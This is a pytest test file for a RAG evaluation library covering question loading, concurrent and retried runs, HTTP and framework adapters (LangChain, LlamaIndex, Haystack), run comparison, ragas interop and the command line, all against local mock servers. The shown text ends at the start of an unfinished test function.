"Running RAG systems (functions, LangChain, LlamaIndex, Haystack, HTTP) on a test set, comparing checked runs, ragas interop, CLI."
import asyncio, ipaddress, json, os, socket, sys, threading, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

os.environ.setdefault('HAYSTACK_TELEMETRY_ENABLED', 'False')  # before any import of haystack: no usage events
os.environ.setdefault('RAGAS_DO_NOT_TRACK', 'true')

import numpy as np
import pandas as pd
import pytest
from ragnb.core.prompts import get_prompt

from ragnb.app.cli import main
from ragnb.synth.generate import Dataset
from ragnb.core.llm import LLM
from ragnb.check.metrics import load_results, save_results, score
from ragnb.rag.systems import (HTTPSystem, OutputError, SystemRun, as_context, as_output, as_system, claim_moves, compare,
                           evaluate_system, from_ragas, json_path, load_checked, load_system, read_questions, run_system,
                           arun_system, ComparisonViewer, moves_html)

# A corpus where each question has one passage that answers it, by construction.
PASSAGES = {'bread': 'Sourdough bread rises slowly because wild yeast ferments the flour overnight.',
            'hubble': 'The Hubble telescope orbits Earth roughly every ninety-five minutes.',
            'compost': 'Compost heaps decompose faster when they are turned weekly with a fork.'}
QUESTIONS = pd.DataFrame({'query_id': ['q0', 'q1', 'q2'],
                          'question': ['why does sourdough bread rise slowly', 'how often does the Hubble telescope orbit Earth',
                                       'how do compost heaps decompose faster'],
                          'answer': ['Wild yeast ferments the flour overnight.', 'Every ninety-five minutes.', 'Turn them weekly.']})
TOPIC = {'q0': 'bread', 'q1': 'hubble', 'q2': 'compost'}


def lookup(question):
    "A system that retrieves the passage sharing the most words and answers with it."
    words = set(question.lower().split())
    best = max(PASSAGES, key=lambda k: len(words & set(PASSAGES[k].lower().rstrip('.').split())))
    return PASSAGES[best], [{'doc_id': best, 'text': PASSAGES[best]}]


@pytest.fixture
def no_internet(monkeypatch):
    "Fail on any connection to an address outside 127.0.0.0/8 (a framework downloading or phoning home)."
    seen, real = [], socket.socket.connect
    def connect(self, addr):
        host = addr[0] if isinstance(addr, tuple) else None
        if host is not None and not ipaddress.ip_address(host).is_loopback:
            seen.append(addr); raise ConnectionRefusedError(f'test blocked a connection to {addr}')
        return real(self, addr)
    def getaddrinfo(host, *a, **kw):
        if host not in (None, 'localhost') and not str(host).startswith('127.'): seen.append(('name lookup', host))
        return real_gai(host, *a, **kw)
    real_gai = socket.getaddrinfo
    monkeypatch.setattr(socket.socket, 'connect', connect)
    monkeypatch.setattr(socket, 'getaddrinfo', getaddrinfo)
    yield seen
    assert not seen, f'connections outside this machine were attempted: {seen}'


# ---------------------------------------------------------------- questions in

def test_read_questions_formats(tmp_path):
    rc = tmp_path/'in.json'
    rc.write_text(json.dumps({'results': [{'query_id': i, 'query': q, 'gt_answer': a} for i, q, a in QUESTIONS.values]}))
    ds = Dataset(QUESTIONS.rename(columns={'query_id': 'id'}).assign(kept=[True, True, False]))
    ragas = pd.DataFrame({'user_input': QUESTIONS.question, 'reference': QUESTIONS.answer})
    jl = tmp_path/'d.jsonl'; ds.save(jl)
    want = pd.DataFrame({'query_id': QUESTIONS.query_id, 'query': QUESTIONS.question, 'gt_answer': QUESTIONS.answer})
    pd.testing.assert_frame_equal(read_questions(rc), want)
    pd.testing.assert_frame_equal(read_questions(QUESTIONS), want)
    pd.testing.assert_frame_equal(read_questions(ds), want.head(2))        # the dropped row is not asked
    pd.testing.assert_frame_equal(read_questions(jl), want.head(2))
    assert read_questions(ragas).query_id.tolist() == ['0', '1', '2']
    assert len(read_questions(QUESTIONS, limit=2)) == 2


def test_read_questions_errors(tmp_path):
    with pytest.raises(ValueError, match="row 1: query is empty"): read_questions(QUESTIONS.assign(question=['a', ' ', 'c']))
    with pytest.raises(ValueError, match='duplicate query ids'): read_questions(QUESTIONS.assign(query_id=['x', 'x', 'y']))
    with pytest.raises(KeyError, match='no gt_answer / answer / reference column'): read_questions(QUESTIONS.drop(columns='answer'))
    (tmp_path/'bad.json').write_text('{"results": 3}')
    with pytest.raises(ValueError, match="bad.json: expected RAGChecker JSON"): read_questions(tmp_path/'bad.json')
    with pytest.raises(FileNotFoundError): read_questions(tmp_path/'none.json')


def test_outputs_and_contexts():
    assert as_output({'answer': 'a', 'sources': ['x', {'id': 7, 'content': 'y'}]}) == ('a', [{'doc_id': '0', 'text': 'x'}, {'doc_id': '7', 'text': 'y'}])
    assert as_output(('a', None)) == ('a', [])
    class Msg: content = 'from a chat message'
    assert as_output((Msg(), []))[0] == 'from a chat message'
    for bad, why in ((42, r'expected \(answer, contexts\)'), (('a', [3]), 'context 0 is int'), ({'answer': 'a'}, 'no contexts'),
                     ((['a'], []), 'the answer is list')):
        with pytest.raises(OutputError, match=why): as_output(bad)


# ---------------------------------------------------------------- running

def test_run_function_results_in_order_and_ragchecker_format(tmp_path):
    run = run_system(QUESTIONS, lookup, progress=False)
    assert [r['query_id'] for r in run.results] == ['q0', 'q1', 'q2'] and not run.failures
    for r in run.results:
        assert r['retrieved_context'] == [{'doc_id': TOPIC[r['query_id']], 'text': PASSAGES[TOPIC[r['query_id']]]}]
        assert r['ragnb']['attempts'] == 1 and r['ragnb']['seconds'] >= 0
    p = run.save(tmp_path/'run.json')
    assert [x.query_id for x in load_results(p)] == ['q0', 'q1', 'q2']
    back = SystemRun.load(p)
    assert (back.name, back.results, back.seconds) == ('lookup', run.results, run.seconds)


def test_a_failing_question_is_recorded_and_the_others_proceed(tmp_path):
    def broken(q):
        if 'Hubble' in q: raise KeyError('no index for space')
        return lookup(q)
    run = run_system(QUESTIONS, broken, progress=False, out=tmp_path/'r.json')
    assert [r['query_id'] for r in run.results] == ['q0', 'q2']
    (f,) = run.failures
    assert (f.item_id, f.kind, f.attempts) == ('q1', 'other', 1) and 'no index for space' in f.message
    saved = SystemRun.load(tmp_path/'r.json')
    assert saved.failures == run.failures and set(saved.seconds) == {'q0', 'q1', 'q2'}
    t = run.timings().set_index('query_id')
    assert t.loc['q1', 'failure'] == 'other' and t.loc['q0', 'failure'] == ''


@pytest.mark.parametrize('kind', ['sync', 'async'])
def test_concurrency_is_bounded_and_used(kind):
    lock, state = threading.Lock(), {'now': 0, 'peak': 0}
    def enter():
        with lock: state['now'] += 1; state['peak'] = max(state['peak'], state['now'])
    def leave():
        with lock: state['now'] -= 1
    def sync_sys(q):
        enter(); time.sleep(0.03); leave(); return lookup(q)
    async def async_sys(q):
        enter(); await asyncio.sleep(0.03); leave(); return lookup(q)
    qs = pd.DataFrame({'question': [f'hubble telescope {i}' for i in range(20)], 'answer': 'x'})
    run = run_system(qs, sync_sys if kind == 'sync' else async_sys, concurrency=4, progress=False)
    assert len(run.results) == 20 and state['peak'] == 4


def test_retries_timeouts_and_bad_output():
    import httpx
    n = {}
    def flaky(q):
        n[q] = n.get(q, 0) + 1
        if n[q] < 3:
            req = httpx.Request('POST', 'http://127.0.0.1:9/x')
            raise httpx.HTTPStatusError('429', request=req, response=httpx.Response(429, request=req))
        return lookup(q)
    run = run_system(QUESTIONS, flaky, retries=2, progress=False)
    assert [r['ragnb']['attempts'] for r in run.results] == [3, 3, 3]
    n.clear()
    run = run_system(QUESTIONS, flaky, retries=1, progress=False)
    assert [(f.kind, f.attempts) for f in run.failures] == [('rate_limit', 2)] * 3
    def not_found(q):
        req = httpx.Request('POST', 'http://127.0.0.1:9/x')
        raise httpx.HTTPStatusError('404', request=req, response=httpx.Response(404, request=req))
    assert [(f.kind, f.attempts) for f in run_system(QUESTIONS, not_found, progress=False).failures] == [('bad_request', 1)] * 3
    async def hang(q): await asyncio.sleep(10)
    t0 = time.perf_counter()
    run = run_system(QUESTIONS, hang, timeout=0.1, retries=0, progress=False)
    assert [f.kind for f in run.failures] == ['timeout'] * 3 and time.perf_counter() - t0 < 3
    def stuck(q): time.sleep(2); return lookup(q)   # a thread cannot be stopped: the run does not wait for it
    t0 = time.perf_counter()
    assert [f.kind for f in run_system(QUESTIONS, stuck, timeout=0.1, retries=0, progress=False).failures] == ['timeout'] * 3
    assert time.perf_counter() - t0 < 1.9   # less than the stuck thread's 2 s: the run did not wait for it
    assert {f.kind for f in run_system(QUESTIONS, lambda q: {'text': 'no answer key'}, progress=False).failures} == {'parse'}


def test_run_inside_a_running_event_loop():
    async def main_():  # e.g. a Jupyter cell: run_system still works, arun_system is awaited
        a = run_system(QUESTIONS, lookup, progress=False)
        b = await arun_system(QUESTIONS, lookup, progress=False)
        return a, b
    a, b = asyncio.run(main_())
    assert a.results[0]['response'] == b.results[0]['response'] == PASSAGES['bread']


def test_as_system_and_load_system(tmp_path, monkeypatch):
    assert as_system(lookup) is lookup
    assert isinstance(as_system('http://127.0.0.1:1/rag'), HTTPSystem)
    with pytest.raises(TypeError, match='cannot run int'): as_system(3)
    (tmp_path/'myrag.py').write_text('def answer(q):\n    return "yes", ["a passage"]\nnot_a_system = 3\n')
    monkeypatch.chdir(tmp_path)
    assert as_output(load_system('myrag:answer')('q')) == ('yes', [{'doc_id': '0', 'text': 'a passage'}])
    assert load_system(f'{tmp_path}/myrag.py:answer')('q')[0] == 'yes'
    with pytest.raises(ValueError, match="has no 'nope'"): load_system('myrag:nope')
    with pytest.raises(ValueError, match='expected module:attribute'): load_system('myrag')
    with pytest.raises(FileNotFoundError): load_system('missing.py:f')


# ---------------------------------------------------------------- HTTP services

class _Service(BaseHTTPRequestHandler):
    fail_first: dict = {}
    def log_message(self, *a): pass
    def _send(self, code, body, ctype='application/json'):
        b = body.encode() if isinstance(body, str) else json.dumps(body).encode()
        self.send_response(code); self.send_header('Content-Type', ctype); self.send_header('Content-Length', str(len(b)))
        self.end_headers(); self.wfile.write(b)
    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers['Content-Length'])))
        q = body['query']
        if self.path == '/html': return self._send(200, '<html>oops</html>', 'text/html')
        if 'compost' in q and self.path == '/flaky' and not self.fail_first.setdefault(q, False):
            self.fail_first[q] = True; return self._send(503, {'error': 'busy'})
        if 'Hubble' in q and self.path == '/partial': return self._send(200, {'result': {'text': 'no sources'}})
        answer, ctx = lookup(q)
        self._send(200, {'result': {'text': answer, 'top_k': body.get('top_k'),
                                    'sources': [{'id': c['doc_id'], 'body': c['text']} for c in ctx]}})


@pytest.fixture
def service():
    srv = ThreadingHTTPServer(('127.0.0.1', 0), _Service)
    threading.Thread(target=srv.serve_forever, kwargs={'poll_interval': 0.05}, daemon=True).start()
    _Service.fail_first = {}
    yield f'http://127.0.0.1:{srv.server_address[1]}'
    srv.shutdown(); srv.server_close()


def test_json_path():
    d = {'a': {'b': [{'c': 1}, {'c': 2}]}}
    assert json_path(d, 'a.b[*].c') == [1, 2] and json_path(d, 'a.b[1]') == {'c': 2}
    with pytest.raises(OutputError, match=r"no list at \[0\]"): json_path(d, 'a[0]')


def test_http_system(service):
    sys_ = HTTPSystem(f'{service}/flaky', answer_path='result.text', contexts_path='result.sources[*].body',
                      question_field='query', body={'top_k': 3}, name='service')
    run = run_system(QUESTIONS, sys_, progress=False)
    assert not run.failures and [r['response'] for r in run.results] == [lookup(q)[0] for q in QUESTIONS.question]
    assert run.results[2]['ragnb']['attempts'] == 2          # the 503 was retried
    assert run.results[0]['retrieved_context'] == [{'doc_id': '0', 'text': PASSAGES['bread']}]
    part = run_system(QUESTIONS, HTTPSystem(f'{service}/partial', 'result.text', 'result.sources[*].body', 'query'), progress=False)
    (f,) = part.failures
    assert (f.item_id, f.kind) == ('q1', 'parse') and "no 'sources'" in f.message
    html = run_system(QUESTIONS, HTTPSystem(f'{service}/html', 'result.text', 'result.sources', 'query'), progress=False)
    assert {f.kind for f in html.failures} == {'parse'} and 'not JSON' in html.failures[0].message
    down = run_system(QUESTIONS.head(1), HTTPSystem('http://127.0.0.1:9/rag'), retries=0, progress=False)
    assert down.failures[0].kind == 'connection'


# ---------------------------------------------------------------- frameworks, against the scripted server

RAG_TEMPLATE = get_prompt('rag_answer').template   # ragnb's wording: the scripted server reads its inputs back
ROUTE = {'X-Ragnb-Prompt': 'rag_answer'}                                  # the scripted server picks its rule by this header


def _check_answers(run, server, n_calls):
    assert not run.failures, run.failures
    for r in run.results:
        assert r['response'] == PASSAGES[TOPIC[r['query_id']]], r   # the scripted answer: the best-matching retrieved sentence
        assert PASSAGES[TOPIC[r['query_id']]] in [c['text'] for c in r['retrieved_context']]
    chats = server.calls('rag_answer')
    agents = [{k.lower(): v for k, v in c['headers'].items()}.get('user-agent', '') for c in chats]
    assert len(chats) == n_calls and all(a.startswith(('OpenAI/Python', 'AsyncOpenAI/Python')) for a in agents), agents  # the openai client


def test_langchain(server, no_internet):
    pytest.importorskip('langchain_openai', reason="the langchain extra is not installed (pip install 'ragnb[langchain]')")
    from langchain_openai import ChatOpenAI, OpenAIEmbeddings
    from langchain_core.documents import Document
    from langchain_core.vectorstores import InMemoryVectorStore
    from langchain_core.prompts import ChatPromptTemplate
    from langchain_core.output_parsers import StrOutputParser
    from langchain_core.runnables import RunnableParallel, RunnablePassthrough
    from ragnb.rag.systems import LangChainSystem
    # check_embedding_ctx_length=False: otherwise OpenAIEmbeddings tokenises with tiktoken, which downloads its encoding
    emb = OpenAIEmbeddings(model='scripted-embedding', base_url=server.base_url, api_key='sk-test', check_embedding_ctx_length=False)
    store = InMemoryVectorStore.from_documents([Document(page_content=t, id=k) for k, t in PASSAGES.items()], emb)
    retriever = store.as_retriever(search_kwargs={'k': 2})
    llm = ChatOpenAI(model='scripted-test-model', base_url=server.base_url, api_key='sk-test', default_headers=ROUTE)
    fmt = lambda x: {'context': '\n\n'.join(d.page_content for d in x['context']), 'question': x['question']}
    answer = fmt | ChatPromptTemplate.from_messages([('user', RAG_TEMPLATE)]) | llm | StrOutputParser()
    chain = RunnableParallel(context=retriever, question=RunnablePassthrough()).assign(answer=answer)
    run = run_system(QUESTIONS, chain, progress=False)                     # as_system wraps the runnable
    _check_answers(run, server, 3)
    assert {len(r['retrieved_context']) for r in run.results} == {2} and run.results[1]['retrieved_context'][0]['doc_id'] == 'hubble'
    # retriever + a chain that answers from {question, context}
    gen = (lambda x: {'context': '\n\n'.join(d.page_content for d in x['context']), 'question': x['question']}) \
          | ChatPromptTemplate.from_messages([('user', RAG_TEMPLATE)]) | llm
    run2 = run_system(QUESTIONS, LangChainSystem(gen, retriever=retriever, name='lc2'), progress=False)
    _check_answers(run2, server, 6)
    assert [r['retrieved_context'] for r in run2.results] == [r['retrieved_context'] for r in run.results]


def test_langchain_failures_are_recorded(no_internet):
    pytest.importorskip('langchain_openai', reason="the langchain extra is not installed (pip install 'ragnb[langchain]')")
    from ragnb.testing.scripted import ScriptedServer
    from langchain_openai import ChatOpenAI
    from langchain_core.runnables import RunnableParallel, RunnableLambda
    with ScriptedServer(faults={'400': 1.0}) as srv:
        llm = ChatOpenAI(model='scripted-test-model', base_url=srv.base_url, api_key='sk-test', max_retries=0)
        chain = RunnableParallel(context=RunnableLambda(lambda q: [PASSAGES['bread']]), answer=llm)
        run = run_system(QUESTIONS, chain, progress=False)
    assert not run.results and [f.kind for f in run.failures] == ['bad_request'] * 3
    assert 'Error code: 400' in run.failures[0].message and run.failures[0].attempts == 1


def test_llamaindex(server, no_internet):
    pytest.importorskip('llama_index.llms.openai', reason="the llamaindex extra is not installed (pip install 'ragnb[llamaindex]')")
    pytest.importorskip('llama_index.embeddings.openai', reason="the llamaindex extra is not installed (pip install 'ragnb[llamaindex]')")
    from llama_index.core import VectorStoreIndex, PromptTemplate
    from llama_index.core.schema import TextNode
    from llama_index.llms.openai import OpenAI
    from llama_index.embeddings.openai import OpenAIEmbedding
    from ragnb.rag.systems import LlamaIndexSystem
    # llama-index's OpenAI classes check model names against OpenAI's list: known names, served by the scripted server
    emb = OpenAIEmbedding(model_name='text-embedding-3-small', api_base=server.base_url, api_key='sk-test')
    llm = OpenAI(model='gpt-4o-mini', api_base=server.base_url, api_key='sk-test', default_headers=ROUTE)
    index = VectorStoreIndex([TextNode(text=t, id_=k) for k, t in PASSAGES.items()], embed_model=emb)
    engine = index.as_query_engine(llm=llm, similarity_top_k=2, text_qa_template=PromptTemplate(
        RAG_TEMPLATE.replace('{context}', '{context_str}').replace('{question}', '{query_str}')))
    assert isinstance(as_system(engine), LlamaIndexSystem)
    run = run_system(QUESTIONS, engine, progress=False)
    _check_answers(run, server, 3)
    assert run.results[1]['retrieved_context'][0]['doc_id'] == 'hubble'   # the node's id


def _haystack_pipeline(server, answer_builder=False):
    from haystack import Pipeline, Document
    from haystack.document_stores.in_memory import InMemoryDocumentStore
    from haystack.components.retrievers.in_memory import InMemoryBM25Retriever
    from haystack.components.builders import ChatPromptBuilder, AnswerBuilder
    from haystack.components.generators.chat import OpenAIChatGenerator
    from haystack.dataclasses import ChatMessage
    from haystack.utils import Secret
    store = InMemoryDocumentStore()
    store.write_documents([Document(content=t, id=k) for k, t in PASSAGES.items()])
    tpl = RAG_TEMPLATE.replace('{context}', '{% for d in documents %}{{ d.content }}\n\n{% endfor %}').replace('{question}', '{{ question }}')
    p = Pipeline()
    p.add_component('retriever', InMemoryBM25Retriever(store, top_k=2))
    p.add_component('prompt', ChatPromptBuilder(template=[ChatMessage.from_user(tpl)], required_variables=['documents', 'question']))
    p.add_component('llm', OpenAIChatGenerator(api_key=Secret.from_token('sk-test'), model='scripted-test-model',
                                               api_base_url=server.base_url, generation_kwargs={'extra_headers': ROUTE}))
    p.connect('retriever.documents', 'prompt.documents'); p.connect('prompt.prompt', 'llm.messages')
    if answer_builder:
        p.add_component('answers', AnswerBuilder())
        p.connect('llm.replies', 'answers.replies'); p.connect('retriever.documents', 'answers.documents')
    return p


def test_haystack(server, no_internet):
    pytest.importorskip('haystack', reason="the haystack extra is not installed (pip install 'ragnb[haystack]')")
    from ragnb.rag.systems import HaystackSystem
    p = _haystack_pipeline(server)
    s = as_system(p)
    assert isinstance(s, HaystackSystem) and (s.answer, s.contexts) == (('llm', 'replies'), ('retriever', 'documents'))
    assert s.inputs('hi') == {'retriever': {'query': 'hi'}, 'prompt': {'question': 'hi'}}
    run = run_system(QUESTIONS, s, progress=False)
    _check_answers(run, server, 3)
    assert run.results[1]['retrieved_context'][0]['doc_id'] == 'hubble'
    pa = _haystack_pipeline(server, answer_builder=True)    # two answer outputs now: it must be told which
    with pytest.raises(ValueError, match="cannot tell which output holds the answer"): HaystackSystem(pa)
    run = run_system(QUESTIONS, HaystackSystem(pa, answer='answers.answers', inputs=lambda q: {'retriever': {'query': q},
                     'prompt': {'question': q}, 'answers': {'query': q}}), progress=False)
    _check_answers(run, server, 6)
    import haystack.telemetry._telemetry as telemetry
    assert telemetry.telemetry is None   # no usage events: HAYSTACK_TELEMETRY_ENABLED=False was set before the import


@pytest.mark.parametrize('adapter,module,extra', [('LlamaIndexSystem', 'llama_index.core', 'llamaindex'),
                                                  ('LangChainSystem', 'langchain_core', 'langchain'), ('HaystackSystem', 'haystack', 'haystack')])
def test_missing_framework_gives_the_install_line(monkeypatch, adapter, module, extra):
    import ragnb.rag.systems
    monkeypatch.setitem(sys.modules, module, None)   # as if it were not installed
    with pytest.raises(ImportError, match=rf"{adapter} needs {module.split('.')[0]}: pip install 'ragnb\[{extra}\]'"):
        getattr(ragnb.rag.systems, adapter)(object())


# ---------------------------------------------------------------- comparing checked runs

E, N = 'Entailment', 'Neutral'

def _checked(qid, gt_hits, gt_found, n_chunks=2):
    "A checked result with 2 ground-truth claims: `gt_hits` = which the response entails, `gt_found` = which a chunk entails."
    claims = [['sky', 'is', 'blue'], ['grass', 'is', 'green']]
    return dict(query_id=qid, query=f'question {qid}', gt_answer='The sky is blue. The grass is green.', response='r',
                retrieved_context=[{'doc_id': f'c{j}', 'text': 't'} for j in range(n_chunks)],
                response_claims=[['r', 'is', 'x']], gt_answer_claims=claims, answer2response=[E],
                response2answer=[E if h else N for h in gt_hits],
                retrieved2response=[[E] + [N] * (n_chunks - 1)],
                retrieved2answer=[[E if f else N] + [N] * (n_chunks - 1) for f in gt_found])


def test_compare_paired_differences_and_claim_moves(tmp_path):
    # A entails 1 of 2 ground-truth claims on every question; B entails both on q0..q5, the same one on q6..q9.
    a = [_checked(f'q{i}', [1, 0], [1, 0]) for i in range(10)]
    b = [_checked(f'q{i}', [1, 1], [1, i < 3]) for i in range(6)] + [_checked(f'q{i}', [1, 0], [1, 0]) for i in range(6, 10)]
    save_results(a, tmp_path/'A.json'); save_results(b, tmp_path/'B.json')
    cmp = compare(tmp_path/'A.json', tmp_path/'B.json')
    assert cmp.names == ['A', 'B']
    t = cmp.table()
    assert t.loc['A', ('overall', 'Rec.')] == 50.0 and t.loc['B', ('overall', 'Rec.')] == 80.0
    assert t.loc['B', ('overall', 'Rec.')] == score(b).overall['overall_metrics']['recall']
    d = cmp.deltas.set_index('metric').loc['recall']
    assert d['diff'] == pytest.approx(30.0) and d['n'] == 10
    assert 0 < d['low'] <= 30 <= d['high'] <= 50          # every paired difference is 0 or +50
    assert cmp.deltas.set_index('metric').loc['precision', ['diff', 'low', 'high']].tolist() == [0, 0, 0]
    assert '*' in cmp.delta_table().loc['B', 'Rec.'] and '*' not in cmp.delta_table().loc['B', 'Prec.']
    mv = claim_moves(cmp)
    assert len(mv) == 6 and set(mv.move) == {'gained'} and set(mv.claim) == {'(grass, is, green)'}
    assert mv.groupby('cause').size().to_dict() == {'generator': 3, 'retriever': 3}   # q0-q2 newly retrieved it, q3-q5 did not
    assert len(claim_moves(cmp, 'B', 'A')) == 6 and set(claim_moves(cmp, 'B', 'A').move) == {'lost'}
    assert len(claim_moves(cmp, everything=True)) == 20
    fig = cmp.plot()
    assert len(fig.axes) == 2
    html = moves_html(cmp, 'q0')
    assert html.count('<img') == 2 and 'grass, is, green' in html
    cv = ComparisonViewer(cmp)
    assert cv.ids[:6] == [f'q{i}' for i in range(6)]    # questions with moves first
    b = cv._repr_mimebundle_()                           # displays as the live widget plus a static snapshot
    assert 'application/vnd.jupyter.widget-view+json' in b and 'q0' in b['text/html'] and '<img' in b['text/html']


def test_compare_needs_checked_runs_and_pairs_on_common_questions(tmp_path):
    a = [_checked(f'q{i}', [1, 0], [1, 0]) for i in range(4)]
    b = [_checked(f'q{i}', [1, 1], [1, 1]) for i in range(3)] + [dict(_checked('q3', [1, 1], [1, 1]), response2answer=None)]
    cmp = compare({'a': a, 'b': b})
    assert cmp.deltas.n.unique().tolist() == [3] and cmp.means.query("system == 'b'").n.unique().tolist() == [3]
    with pytest.raises(ValueError, match=r"none of its 2 results is checked"):
        compare(a, [{k: v for k, v in r.items() if k in ('query_id', 'query', 'gt_answer', 'response', 'retrieved_context')} for r in a[:2]])
    with pytest.raises(ValueError, match='no claim checks yet'): compare(a, run_system(QUESTIONS, lookup, progress=False))
    with pytest.raises(ValueError, match='one distinct name per run'): compare(a, b, names=['x', 'x'])


def test_load_checked_reads_ragchecker_output():
    from ragnb.core.samples import sample_path
    out = sample_path('ragchecker', 'examples', 'checking_outputs.json')
    run = load_checked(out)
    stored = json.loads(out.read_text())['metrics']
    assert {g.removesuffix('_metrics'): v for g, v in run.scores.overall.items()} == stored
    cmp = compare(out, out, names=['ragchecker', 'again'])
    assert (cmp.deltas['diff'] == 0).all() and claim_moves(cmp).empty


# ---------------------------------------------------------------- ragas

def test_ragas_round_trip(tmp_path):
    rs = pd.DataFrame({'user_input': ['q1?', 'q2?'], 'reference': ['a1', 'a2'],
                       'reference_contexts': [['c1'], ['c2a', 'c2b']], 'synthesizer_name': ['s', 'm']})
    ds = from_ragas(rs)
    assert ds.df.id.tolist() == ['ragas/0', 'ragas/1'] and ds.df.kept.all() and ds.df.context[1] == 'c2a\n\nc2b'
    pd.testing.assert_frame_equal(ds.to_ragas(), rs.drop(columns='synthesizer_name'))
    for f in ('d.jsonl', 'd.parquet'):                      # through ragnb's own files too
        pd.testing.assert_frame_equal(Dataset.load(ds.save(tmp_path/f)).to_ragas(), rs.drop(columns='synthesizer_name'))
    ours = Dataset(pd.DataFrame({'id': ['x/q0'], 'question': ['q?'], 'answer': ['a'], 'context': ['passage'], 'kept': [True],
                                 'failures': [[]]}))
    pd.testing.assert_frame_equal(from_ragas(ours.to_ragas()).to_ragas(), ours.to_ragas())
    assert read_questions(from_ragas(rs))['query'].tolist() == ['q1?', 'q2?']
    with pytest.raises(KeyError, match="no 'reference' column"): from_ragas(rs.drop(columns='reference'))


def test_ragas_evaluation_dataset(no_internet):
    ragas = pytest.importorskip('ragas', reason="ragas is not installed (pip install 'ragnb[ragas]')")
    from ragnb.rag.systems import to_ragas_dataset
    rs = pd.DataFrame({'user_input': ['q1?', 'q2?'], 'reference': ['a1', 'a2'], 'reference_contexts': [['c1'], ['c2a', 'c2b']]})
    ev = ragas.EvaluationDataset.from_pandas(rs)
    ds = from_ragas(ev)
    assert ds.df.question.tolist() == ['q1?', 'q2?']
    assert read_questions(ev)['gt_answer'].tolist() == ['a1', 'a2']
    back = to_ragas_dataset(ds)
    assert isinstance(back, ragas.EvaluationDataset) and back.to_pandas()['reference_contexts'].tolist() == [['c1'], ['c2a', 'c2b']]
    run = run_system(QUESTIONS, lookup, progress=False)
    assert ragas.EvaluationDataset.from_pandas(run.to_ragas()).samples[0].response == PASSAGES['bread']


# ---------------------------------------------------------------- command line

@pytest.fixture
def scripted_env(server, monkeypatch):
    monkeypatch.setenv('OPENAI_BASE_URL', server.base_url)
    monkeypatch.setenv('OPENAI_API_KEY', 'sk-test')
    monkeypatch.setenv('RAGNB_MODEL', 'scripted-test-model')
    return server


def test_cli_run(tmp_path, monkeypatch, capsys):
    (tmp_path/'rag.py').write_text(
        'PASSAGES = ' + repr(PASSAGES) + '\n'
        'def answer(q):\n'
        '    if "compost" in q: raise RuntimeError("compost index offline")\n'
        '    k = "bread" if "bread" in q else "hubble"\n'
        '    return PASSAGES[k], [PASSAGES[k]]\n')
    QUESTIONS.to_json(tmp_path/'qs.jsonl', orient='records', lines=True)
    monkeypatch.chdir(tmp_path)
    code = main(['run', 'qs.jsonl', '--system', 'rag:answer', '--out', 'answers.json', '--concurrency', '2'])
    out, err = capsys.readouterr()
    assert code == 1 and 'answer: 2 answered, 1 failed' in out and "q2: other after 1 attempt(s): RuntimeError: compost index offline" in err
    run = SystemRun.load(tmp_path/'answers.json')
    assert [r['query_id'] for r in run.results] == ['q0', 'q1'] and run.failures[0].item_id == 'q2' and run.concurrency == 2
    assert main(['run', 'qs.jsonl', '--system', 'rag', '--out', 'x.json']) == 1
    assert 'expected module:attribute' in capsys.readouterr().err


def test_cli_evaluate_end_to_end(tmp_path, scripted_env, service, capsys):
    QUESTIONS.to_json(tmp_path/'qs.jsonl', orient='records', lines=True)
    code = main(['evaluate', str(tmp_path/'qs.jsonl'), '--system', f'{service}/flaky', '--question-field', 'query',
                 '--answer-path', 'result.text', '--contexts-path', 'result.sources[*].body', '--name', 'svc',
                 '--out', str(tmp_path/'ev')])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert sorted(p.name for p in (tmp_path/'ev').iterdir()) == ['answers.json', 'checked.json', 'claim_shares.png', 'metrics.json', 'metrics.png']
    m = json.loads((tmp_path/'ev/metrics.json').read_text())
    assert (m['system'], m['questions'], m['answered'], m['scored'], m['failures']) == ('svc', 3, 3, 3, [])
    checked = load_results(tmp_path/'ev/checked.json')
    assert all(r.retrieved2answer is not None and r.metrics for r in checked)
    assert m['metrics'] == score(checked).overall
    assert len(scripted_env.calls('extract_claims_triplet')) == 6      # response and ground truth of each answer
    assert '"overall_metrics"' in out and 'svc: 3 answered, 0 failed, 3 scored' in out


def test_evaluate_system_with_nothing_answered(tmp_path, llm):
    with pytest.raises(ValueError, match='answered no question'):
        evaluate_system(QUESTIONS, lambda q: 1 / 0, tmp_path/'ev', llm, progress=False)
    assert (tmp_path/'ev/answers.json').exists()   # the failures are on disk


def test_cli_compare(tmp_path, capsys):
    save_results([_checked(f'q{i}', [1, 0], [1, 0]) for i in range(5)], tmp_path/'base.json')
    save_results([_checked(f'q{i}', [1, i < 2], [1, 0]) for i in range(5)], tmp_path/'new.json')
    assert main(['compare', str(tmp_path/'base.json'), str(tmp_path/'new.json'), '--out', str(tmp_path/'cmp')]) == 0
    out = capsys.readouterr().out
    assert 'paired differences from base' in out and 'gained (generator) 2' in out and '(grass, is, green)' in out
    assert sorted(p.name for p in (tmp_path/'cmp').iterdir()) == ['claim_moves.csv', 'comparison.png', 'deltas.csv', 'table.csv']
    assert len(pd.read_csv(tmp_path/'cmp/claim_moves.csv')) == 2
    assert main(['compare', str(tmp_path/'base.json'), str(tmp_path/'missing.json')]) == 1


def test_cli_run_then_check_then_compare(tmp_path, scripted_env, monkeypatch, capsys):
    (tmp_path/'rags.py').write_text('PASSAGES = ' + repr(PASSAGES) + '\n'
        'def good(q):\n    k = next(k for k in PASSAGES if k in q.lower())\n'
        '    return PASSAGES[k], [PASSAGES[k]]\n'
        'def vague(q):\n    return "It depends.", [PASSAGES["bread"]]\n')
    QUESTIONS.assign(question=['why does bread rise', 'how often does the hubble orbit', 'how does compost decompose']
                     ).to_json(tmp_path/'qs.jsonl', orient='records', lines=True)
    monkeypatch.chdir(tmp_path)
    for s in ('good', 'vague'):
        assert main(['run', 'qs.jsonl', '--system', f'rags:{s}', '--out', f'{s}.json']) == 0
        assert main(['check', f'{s}.json', '--out', f'{s}_checked.json']) == 0
    checked = load_results('good_checked.json')
    assert all(r.ragnb['seconds'] >= 0 and r.ragnb['attempts'] == 1 for r in checked)   # the run's timings survive checking
    capsys.readouterr()
    assert main(['compare', 'vague_checked.json', 'good_checked.json']) == 0
    out = capsys.readouterr().out
    assert 'vague_checked' in out and 'good_checked' in out and 'ground-truth claims, vague_checked -> good_checked' in out
    d = compare('vague_checked.json', 'good_checked.json').deltas.set_index('metric')
    assert d.loc['claim_recall', 'diff'] > 0   # the good system retrieves the right passage for two more questions


def test_run_in_loop_refuses_to_block_its_own_loop():
